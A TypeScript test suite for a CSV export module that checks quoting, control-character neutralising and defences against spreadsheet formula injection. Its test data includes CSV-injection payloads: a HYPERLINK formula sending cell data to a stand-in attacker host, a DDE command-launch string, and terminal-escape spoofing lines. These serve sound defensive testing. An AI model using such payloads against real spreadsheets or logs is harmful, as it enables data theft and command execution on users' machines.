import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { COLUMN_IDS } from '../../url-state/view-state.ts';
import { neutraliseEscapes, guardFormula, needsFormulaGuard, quoteField, csvParts } from './csv.ts';
import { realEvent, sampleEvent } from './sample-events.ts';

const toCsv = (...args: Parameters<typeof csvParts>) => csvParts(...args).join('');

/** A strict RFC 4180 parser: CRLF records, quoted fields with doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const fieldEnd = () => {
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      return;
    }
    if (text[i] === ',') {
      i += 1;
      return;
    }
    throw new Error(`unexpected character at ${i}`);
  };
  while (i < text.length) {
    if (text[i] === '"') {
      let value = '';
      i += 1;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unterminated quote');
        value += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        value += '"';
        i += 1;
      }
      row.push(value);
    } else {
      let end = i;
      while (end < text.length && text[end] !== ',' && text[end] !== '\r') {
        if (text[end] === '"' || text[end] === '\n') throw new Error(`bare ${text[end]} at ${end}`);
        end += 1;
      }
      row.push(text.slice(i, end));
      i = end;
    }
    fieldEnd();
  }
  if (row.length) throw new Error('last record not ended by CRLF');
  return rows;
}

// Independent of the module: no TAB or CR among the leading blanks, and no formula sign as the first non-blank.
const FORMULA_SIGNS = new Set(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
function startsDangerously(cell: string): boolean {
  const chars = Array.from(cell);
  const blanks = chars.findIndex((char) => !/[\s\p{Cc}\p{Cf}]/u.test(char));
  const leading = blanks < 0 ? chars : chars.slice(0, blanks);
  if (leading.includes('\t') || leading.includes('\r')) return true;
  return blanks >= 0 && FORMULA_SIGNS.has(chars[blanks]!);
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '+1',
  '   =1+1',
  '\t=1',
  '\r=1',
  '\u200B=1',
  '＝1+1',
  'a,"b"\r\nc',
];

describe('toCsv', () => {
  it('writes the header of the visible columns, one row per event, a Demo column and CRLF ends', () => {
    const csv = toCsv([sampleEvent(), realEvent], {
      columns: [
        'time',
        'provider',
        'action',
        'actor',
        'target',
        'outcome',
        'ip',
        'summary',
        'source',
        'category',
      ],
      timeZone: 'UTC',
    });
    expect(csv).toBe(
      'Time (UTC),Provider,Action,Actor,Target,Outcome,IP,Summary,Source,Category,Demo\r\n' +
        '2026-11-24 21:30:00.000 UTC,OpenAI,login.failed,ann@example.com,organization: Acme,failure,203.0.113.7,Ann failed to log in,openai.audit_logs,authentication,true\r\n' +
        '2026-11-24 20:00:00.000 UTC,Cloud Foundry,audit.app.update,bob,app: web,success,,bob updated app web,cloudfoundry.audit_events,configuration,false\r\n',
    );
  });

  it('follows the column order and the time zone of the view', () => {
    const csv = toCsv([sampleEvent()], { columns: ['summary', 'time'], timeZone: 'Europe/Berlin' });
    expect(parseCsv(csv)).toEqual([
      ['Summary', 'Time (Europe/Berlin)', 'Demo'],
      ['Ann failed to log in', '2026-11-24 22:30:00.000 +01:00', 'true'],
    ]);
  });

  it('writes only the header for no events and can start with a BOM', () => {
    expect(toCsv([], { columns: ['action'], timeZone: 'UTC' })).toBe('Action,Demo\r\n');
    expect(toCsv([], { columns: ['action'], timeZone: 'UTC', bom: true })).toBe('\uFEFFAction,Demo\r\n');
  });

  it('guards hostile cells against formula injection and quotes what RFC 4180 requires', () => {
    const events = HOSTILE.map((text, index) =>
      sampleEvent({ key: `k${index}`, summary: text, action: text }),
    );
    const rows = parseCsv(toCsv(events, { columns: ['action', 'summary'], timeZone: 'UTC' }));
    expect(rows.slice(1).map((row) => row[0])).toEqual(
      HOSTILE.map((text) => (text === 'a,"b"\r\nc' ? text : text === '\r=1' ? '⟨U+000D⟩=1' : `'${text}`)),
    );
    for (const row of rows) for (const cell of row) expect(startsDangerously(cell)).toBe(false);
  });
});

describe('control characters', () => {
  it('shows those that print over a line as markers, and keeps tabs and line breaks', () => {
    expect(neutraliseEscapes('pwned\rUser alice logged in')).toBe('pwned⟨U+000D⟩User alice logged in');
    expect(neutraliseEscapes('mallory\b\balice')).toBe('mallory⟨U+0008⟩⟨U+0008⟩alice');
    expect(neutraliseEscapes('\u0000\u007F\u001B[2J\u009B')).toBe('⟨U+0000⟩⟨U+007F⟩⟨U+001B⟩[2J⟨U+009B⟩');
    expect(neutraliseEscapes('a\tb\nc\r\nd')).toBe('a\tb\nc\r\nd');
  });
});

describe('the formula guard and quoting', () => {
  it('guards a dangerous first non-blank character only', () => {
    expect(guardFormula('=1')).toBe("'=1");
    expect(guardFormula(' \u00A0@x')).toBe("' \u00A0@x");
    expect(guardFormula('\tx')).toBe("'\tx");
    expect(guardFormula('a=1')).toBe('a=1');
    expect(guardFormula("'=1")).toBe("'=1");
    expect(guardFormula('')).toBe('');
    expect(needsFormulaGuard('2026-11-24 16:00:00 -04:00')).toBe(false);
  });

  it('quotes fields with quotes, commas or line breaks and doubles quotes', () => {
    expect(quoteField('plain')).toBe('plain');
    expect(quoteField('a "b", c')).toBe('"a ""b"", c"');
    expect(quoteField('x\ny')).toBe('"x\ny"');
    expect(quoteField('x\ry')).toBe('"x\ry"');
  });
});

describe('CSV round trip (property)', () => {
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 8 }),
    fc.constantFrom(
      '"',
      ',',
      '\r',
      '\n',
      '\r\n',
      '=',
      '+',
      '-',
      '@',
      '\t',
      ' ',
      "'",
      '\u2028',
      '＝',
      '\u200B',
      '\uFEFF',
    ),
  );
  const text = fc.array(piece, { maxLength: 6 }).map((parts) => parts.join(''));
  const event = fc
    .record({ action: text, summary: text, email: text, target: text, ip: text, demo: fc.boolean() })
    .map(({ action, summary, email, target, ip, demo }) =>
      sampleEvent({ action, summary, ip, demo, actor: { email }, target: { name: target } }),
    );

  // A generous timeout: the first property run warms fast-check up, slowly on a loaded machine.
  it(
    'reads back cell by cell, modulo one guarding quote and visible escapes, and no cell starts dangerously',
    { timeout: 30_000 },
    () => {
      fc.assert(
        fc.property(fc.array(event, { maxLength: 5 }), (events) => {
          const columns = ['action', 'actor', 'target', 'ip', 'summary'] as const;
          const rows = parseCsv(toCsv(events, { columns: [...columns], timeZone: 'UTC' }));
          expect(rows).toHaveLength(events.length + 1);
          events.forEach((original, index) => {
            const row = rows[index + 1]!;
            const expected = [
              original.action,
              original.actor.email || '—',
              original.target.name || '—',
              original.ip!,
              original.summary,
              original.demo ? 'true' : 'false',
            ];
            expect(row).toHaveLength(expected.length);
            row.forEach((cell, column) => {
              // Terminal escapes come back as visible markers (neutraliseEscapes), the rest as written.
              const value = neutraliseEscapes(expected[column]!);
              const unguarded = startsDangerously(value) ? cell.replace(/^'/, '') : cell;
              expect(unguarded).toBe(value);
              expect(startsDangerously(cell)).toBe(false);
            });
          });
        }),
      );
    },
  );

  it('accepts every column', () => {
    const rows = parseCsv(toCsv([sampleEvent()], { columns: [...COLUMN_IDS], timeZone: 'Asia/Kolkata' }));
    expect(rows[0]).toHaveLength(COLUMN_IDS.length + 1);
    expect(rows[1]?.[0]).toBe('2026-11-25 03:00:00.000 +05:30');
  });
});
